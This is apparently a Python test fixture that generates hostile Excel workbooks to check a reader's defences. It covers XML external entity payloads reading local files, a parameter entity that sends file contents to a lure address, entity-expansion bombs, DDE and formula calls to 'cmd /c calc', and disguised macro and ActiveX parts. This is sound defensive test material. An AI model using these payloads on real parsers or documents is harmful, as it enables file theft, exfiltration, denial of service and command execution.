"""Document types, entities and links that would lead a reader out of the workbook. 合成数据。"""

import codecs
from collections.abc import Callable, Mapping
from dataclasses import dataclass

from tests.store.register.hostile.bombs_old import MACRO_SHEET, PLAIN_OLD, SEALED, cells, compound, stream
from tests.store.register.hostile.lures import Lure
from tests.store.register.hostile.workbooks import (
    ABOUT,
    BOOK,
    BOOK_LINKS,
    KINDS,
    LINKS,
    OPENING,
    PARTS,
    READ,
    ROWS_END,
    SHARED,
    SHEET,
    STYLES,
    linked,
    replaced,
    with_parts,
)

DTD, MACRO = "DTD", "宏"
ENTITY = "&e;"
NUMBER = b"<v>6200</v>"
KINDS_END = b"</Types>"


@dataclass(frozen=True)
class Case:
    """A workbook made for a lure, and the pattern of its answer (READ: the honest row, and nothing of the lure).

    note  words that a file which is read must bring with it
    """

    words: str
    content: Callable[[Lure], bytes]
    note: str = ""


def typed(part: str, document_type: str, encoding: str = "utf-8", before: str = "", told: str = "") -> bytes:
    """The plain workbook, one part of which has a document type, in any encoding."""
    body = PARTS[part].decode().removeprefix(OPENING)
    opening = OPENING.replace("UTF-8", told or encoding.upper()).strip()
    text = f"{opening}{before}{document_type}{body}".replace("陈一", ENTITY)
    mark = {"utf-16-le": codecs.BOM_UTF16_LE, "utf-16-be": codecs.BOM_UTF16_BE}.get(encoding, b"")
    return with_parts({part: mark + text.encode(encoding, "xmlcharrefreplace")})


def file_entity(lure: Lure) -> str:
    return f'<!DOCTYPE x [<!ENTITY e SYSTEM "{lure.file}">]>'


def web_entity(lure: Lure) -> str:
    return f'<!DOCTYPE x [<!ENTITY e SYSTEM "{lure.web}">]>'


def _laughs() -> str:
    more = "".join(f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' for level in range(1, 10))
    return f'<!DOCTYPE x [<!ENTITY l0 "ha">{more}<!ENTITY e "&l9;">]>'


def _quadratic() -> str:
    return f'<!DOCTYPE x [<!ENTITY a "{"a" * 50_000}"><!ENTITY e "{"&a;" * 10_000}">]>'


def _within_sheet(xml: str) -> bytes:
    return replaced(SHEET, ROWS_END, ROWS_END + xml.encode())


def _outside(folder: str, target: str, more: str = "") -> bytes:
    """A workbook with a part in xl/`folder` that links to the outside."""
    link = f'<Relationship Id="rId1" Type="x/externalLinkPath" Target="{target}" TargetMode="External"/>'
    rels = PARTS[LINKS].split(b"<Relationship ")[0] + link.encode() + b"</Relationships>"
    return with_parts(
        {
            f"xl/{folder}/{folder[:-1]}1.xml": f"{OPENING}<x>{more}</x>".encode(),
            f"xl/{folder}/_rels/{folder[:-1]}1.xml.rels": rels,
        }
    )


def _kind(content_type: str) -> bytes:
    more = f'<Override PartName="/xl/other.bin" ContentType="{content_type}"/>'.encode()
    return PARTS[KINDS].replace(KINDS_END, more + KINDS_END)


ENTITIES: Mapping[str, Case] = {
    **{
        f"an entity of a file in {part}": Case(DTD, lambda lure, part=part: typed(part, file_entity(lure)))  # type: ignore[misc]
        for part in (BOOK, SHEET, SHARED, STYLES, BOOK_LINKS, LINKS, KINDS, ABOUT)
    },
    "an entity of an address": Case(DTD, lambda lure: typed(SHARED, web_entity(lure))),
    "an entity of a share": Case(DTD, lambda lure: typed(SHARED, f'<!DOCTYPE x [<!ENTITY e SYSTEM "{lure.share}">]>')),
    "a document type elsewhere": Case(DTD, lambda lure: typed(SHARED, f'<!DOCTYPE x SYSTEM "{lure.web}">')),
    "a public document type": Case(DTD, lambda lure: typed(SHARED, f'<!DOCTYPE x PUBLIC "-//x" "{lure.web}">')),
    "a parameter entity": Case(
        DTD, lambda lure: typed(SHARED, f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{lure.web}"> %p;]>')
    ),
    "a parameter entity that carries a file out": Case(
        DTD,
        lambda lure: typed(
            SHARED, f'<!DOCTYPE x [<!ENTITY % f SYSTEM "{lure.file}"><!ENTITY % p SYSTEM "{lure.web}?%f;"> %p;]>'
        ),
    ),
    "an unparsed entity": Case(
        DTD,
        lambda lure: typed(SHARED, f'<!DOCTYPE x [<!NOTATION n SYSTEM "{lure.web}"><!ENTITY e SYSTEM "x" NDATA n>]>'),
    ),
    "an attribute with a default": Case(DTD, lambda _: typed(SHEET, '<!DOCTYPE x [<!ATTLIST v x CDATA "9">]>')),
    "entities within entities": Case(DTD, lambda _: typed(SHARED, _laughs())),
    "one long entity ten thousand times": Case(DTD, lambda _: typed(SHARED, _quadratic())),
    "an empty document type": Case(DTD, lambda _: typed(SHARED, "<!DOCTYPE x>")),
    "UTF-16, little end first": Case(DTD, lambda lure: typed(SHARED, file_entity(lure), "utf-16-le", told="UTF-16")),
    "UTF-16, big end first": Case(DTD, lambda lure: typed(SHARED, file_entity(lure), "utf-16-be", told="UTF-16")),
    "UTF-16 without its mark": Case(
        f"{DTD}|不是规范", lambda lure: with_parts({SHARED: _entity_text(lure, "UTF-16").encode("utf-16-le")})
    ),
    "UTF-16 that says it is UTF-8": Case(
        f"{DTD}|不是规范|编码",
        lambda lure: with_parts({SHARED: codecs.BOM_UTF16_LE + _entity_text(lure, "UTF-8").encode("utf-16-le")}),
    ),
    "UTF-32": Case("不是规范|编码", lambda lure: typed(SHARED, file_entity(lure), "utf-32")),
    "UTF-7": Case(
        "不是规范|编码",
        lambda lure: with_parts({SHARED: _entity_text(lure, "UTF-7").replace("<!D", "+ADwAIQ-D").encode()}),
    ),
    "EBCDIC": Case("不是规范|编码", lambda lure: typed(SHARED, file_entity(lure), "cp037")),
    "an encoding that nobody writes": Case("编码", lambda _: typed(SHARED, "", "gb18030")),
    "behind 30 kilobytes of comment": Case(
        DTD, lambda lure: typed(SHARED, file_entity(lure), before=f"<!--{'x' * 30_000}-->")
    ),
    "behind 30 kilobytes of white space": Case(DTD, lambda lure: typed(SHARED, file_entity(lure), before=" " * 30_000)),
    "behind a megabyte of comment": Case(
        "过长", lambda lure: typed(SHARED, file_entity(lure), before=f"<!--{'x' * 2**20}-->")
    ),
    "in a part that has another name": Case(
        DTD,
        lambda lure: with_parts(
            {
                BOOK_LINKS: PARTS[BOOK_LINKS].replace(b"sharedStrings.xml", b"sharedStrings.bin"),
                "xl/sharedStrings.bin": _entity_text(lure, "UTF-8").encode(),
            }
        ),
    ),
    "in small letters": Case("不是规范", lambda _: typed(SHARED, "<!doctype x>")),
    "an entity without a document type": Case("", lambda _: replaced(SHARED, "陈一".encode(), b"&e;")),
    "a document type in the middle": Case("", lambda lure: _within_sheet(file_entity(lure) + ENTITY)),
}


def _entity_text(lure: Lure, told: str) -> str:
    body = PARTS[SHARED].decode().removeprefix(OPENING).replace("陈一", ENTITY)
    return f'<?xml version="1.0" encoding="{told}"?>{file_entity(lure)}{body}'


NO_VISIT, NO_DATA, NO_OBJECT, NO_SEAL = "没有访问", "数据连接没有访问|没有访问", "嵌入的对象，没有读取", "没有核验"

LEADING_OUT: Mapping[str, Case] = {
    "XInclude of a file": Case(
        READ,
        lambda lure: _within_sheet(f'<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="{lure.file}"/>'),
    ),
    "a style sheet to be fetched": Case(
        READ,
        lambda lure: with_parts(
            {
                SHEET: PARTS[SHEET].replace(
                    b"<worksheet", f'<?xml-stylesheet type="text/xsl" href="{lure.web}"?><worksheet'.encode(), 1
                )
            }
        ),
    ),
    "a schema to be fetched": Case(
        READ,
        lambda lure: replaced(
            SHEET, b"<worksheet ", f'<worksheet xmlns:s="http://x/s" s:schemaLocation="a {lure.web}" '.encode()
        ),
    ),
    "a link to another workbook": Case(READ, lambda lure: _outside("externalLinks", lure.file), NO_VISIT),
    "a link to a workbook on the net": Case(READ, lambda lure: _outside("externalLinks", lure.web), NO_VISIT),
    "a link to a program (DDE)": Case(
        READ,
        lambda lure: _outside("externalLinks", lure.web, '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'),
        NO_VISIT,
    ),
    "a formula that calls a program": Case(
        READ, lambda _: replaced(SHEET, NUMBER, b"<f>cmd|'/c calc'!A1</f>" + NUMBER)
    ),
    "a formula that fetches": Case(
        READ, lambda lure: replaced(SHEET, NUMBER, f'<f>WEBSERVICE("{lure.web}")</f>'.encode() + NUMBER)
    ),
    "a formula of a file": Case(
        READ, lambda lure: replaced(SHEET, NUMBER, f"<f>'[{lure.file}]x'!A1</f>".encode() + NUMBER)
    ),
    "a hyperlink": Case(
        READ,
        lambda lure: with_parts(
            {
                SHEET: PARTS[SHEET].replace(
                    b"</worksheet>", b'<hyperlinks><hyperlink ref="A2" r:id="rId1"/></hyperlinks></worksheet>'
                ),
                "xl/worksheets/_rels/sheet1.xml.rels": PARTS[LINKS].replace(
                    b'Target="xl/workbook.xml"', f'Target="{lure.web}" TargetMode="External"'.encode()
                ),
            }
        ),
    ),
    "a connection to a database": Case(
        READ,
        lambda lure: with_parts(
            {"xl/connections.xml": f'{OPENING}<connections><connection url="{lure.web}"/></connections>'.encode()}
        ),
        NO_DATA,
    ),
    "a picture that lies elsewhere": Case(
        READ, lambda lure: with_parts({BOOK_LINKS: linked("image", lure.web, ' TargetMode="External"')})
    ),
    "strings that lie elsewhere": Case(
        "", lambda lure: replaced(BOOK_LINKS, b'"sharedStrings.xml"', f'"{lure.file}" TargetMode="External"'.encode())
    ),
    "a sheet that lies elsewhere": Case(
        "", lambda lure: replaced(BOOK_LINKS, b'"worksheets/sheet1.xml"', f'"../..{lure.path}"'.encode())
    ),
    "an embedded object": Case(
        READ, lambda lure: with_parts({"xl/embeddings/oleObject1.bin": lure.file.encode()}), NO_OBJECT
    ),
    "a part of one's own": Case(READ, lambda lure: with_parts({"customXml/item1.xml": f"<a>{lure.web}</a>".encode()})),
    "a signature": Case(
        READ, lambda lure: with_parts({"_xmlsignatures/sig1.xml": f'<S URI="{lure.web}"/>'.encode()}), NO_SEAL
    ),
}

ACTIVE: Mapping[str, Case] = {
    "macros": Case(MACRO, lambda _: with_parts({"xl/vbaProject.bin": b"x"})),
    "macros in another folder": Case(MACRO, lambda _: with_parts({"other/VBAPROJECT.BIN": b"x"})),
    "macros under another name": Case(
        MACRO, lambda _: with_parts({"xl/other.bin": b"x", KINDS: _kind("application/vnd.ms-office.vbaProject")})
    ),
    "macros told in UTF-16": Case(
        MACRO,
        lambda _: with_parts(
            {
                KINDS: codecs.BOM_UTF16_LE
                + _kind("application/vnd.ms-office.vbaProject").decode().replace("UTF-8", "UTF-16").encode("utf-16-le")
            }
        ),
    ),
    "macros by a link alone": Case(MACRO, lambda _: with_parts({BOOK_LINKS: linked("vbaProject", "other.bin")})),
    "a workbook that may hold macros (xlsm)": Case(
        MACRO, lambda _: with_parts({KINDS: _kind("application/vnd.ms-excel.sheet.macroEnabled.main+xml")})
    ),
    "a sheet of macros": Case(MACRO, lambda _: with_parts({"xl/macrosheets/sheet1.xml": b"<m/>"})),
    "a sheet of macros by its link": Case(
        MACRO, lambda _: with_parts({BOOK_LINKS: linked("xlMacrosheet", "worksheets/sheet1.xml")})
    ),
    "macros in a binary workbook (xlsb)": Case(
        MACRO, lambda _: with_parts({"xl/workbook.bin": b"x", "xl/vbaProject.bin": b"x"})
    ),
    "ActiveX": Case("ActiveX", lambda _: with_parts({"xl/activeX/activeX1.xml": b"<a/>"})),
    "ActiveX under another name": Case(
        "ActiveX", lambda _: with_parts({KINDS: _kind("application/vnd.ms-office.activeX")})
    ),
    "macros in an old workbook": Case(MACRO, lambda _: compound(PLAIN_OLD + "_VBA_PROJECT_CUR".encode("utf-16-le"))),
    "a sheet of macros in an old workbook": Case(MACRO, lambda _: compound(stream(cells(), kind=MACRO_SHEET))),
    "a sealed old workbook": Case("密码|加密", lambda _: compound(stream(cells(), globals_more=SEALED))),
    "a sealed workbook": Case("密码", lambda _: compound(b"EncryptedPackage".decode().encode("utf-16-le"))),
}
